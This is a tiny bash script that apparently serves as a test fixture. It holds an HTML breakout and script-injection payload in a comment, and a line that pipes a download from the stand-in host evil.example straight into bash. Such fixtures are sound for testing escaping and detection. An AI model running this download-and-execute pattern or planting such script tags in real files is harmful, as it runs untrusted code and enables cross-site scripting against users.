#!/usr/bin/env bash
# </pre><script>window.__pwned='script-file'</script>
curl -fsSL https://evil.example/install.sh | bash
